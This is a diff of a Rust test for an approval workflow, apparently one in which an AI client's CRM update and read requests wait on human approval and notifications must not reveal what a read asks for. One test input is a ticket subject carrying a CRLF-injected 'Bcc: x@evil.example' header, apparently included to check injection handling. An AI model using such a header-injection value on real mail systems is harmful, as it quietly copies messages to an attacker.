@@ -66,6 +66,9 @@ async fn those_who_are_asked_are_told_until_it_is_delivered() {
     let firm = Firm {
         house: firm.house.with("FIRM_HOOK", SECRET),
     };
+    firm.crm(&format!(
+        "  - {{when: {{power: read, action: read}}, ask: [\"group:leads\"]}}\n{ASK}"
+    ));
     let open = firm.open().await;
     let (ann, lena) = (open.client(&firm, ANN, "claude"), open.person(&firm, LENA));
     let id = ann.asks("crm_update", json!({"table": "tickets", "key": 1, "set": {"subject": "a\r\nBcc: x@evil.example", "status": "closed"}})).await;
@@ -111,4 +114,17 @@ async fn those_who_are_asked_are_told_until_it_is_delivered() {
     );
     lena.approve(&id).await;
     lena.until(&id, &["applied"]).await;
+    // Of a read nobody knows how sensitive it is before it is read: what it asks for is not told.
+    let read = ann
+        .asks("crm_read", json!({"table": "tickets", "key": 4711}))
+        .await;
+    while sinks.kept().len() < 6 {
+        assert!(Instant::now() < end, "{:#?}", sinks.kept());
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    for one in &sinks.kept()[3..] {
+        let text = one["text"].as_str().unwrap();
+        assert!(text.contains(&format!("/approvals/{read}")), "{one:#}");
+        assert!(!one.to_string().contains("4711"), "{one:#}");
+    }
 }
